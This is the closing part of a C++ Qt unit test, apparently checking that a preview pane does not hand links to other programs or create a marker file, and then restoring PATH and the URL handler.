    QTRY_COMPARE_WITH_TIMEOUT(m_pane->page()->title(), QStringLiteral("settled"), loadTimeout);

    qputenv("PATH", path);
    QDesktopServices::unsetUrlHandler(scheme);
    QCOMPARE(m_openedByDesktop, QStringList());
    QVERIFY(!QFile::exists(marker));
    QCOMPARE(catcher.texts(),
             pupilClicks ? QStringList({otherProgramMessage(QUrl(address))}) : QStringList());
    QCOMPARE(m_pane->locationUrl(),
             webPage ? m_server->url(QStringLiteral("/web.html")).toString() : QStringLiteral("about:blank"));
}

VELMARK_WIDGET_TEST_MAIN(TestPreviewIsolation)

#include "tst_previewisolation.moc"
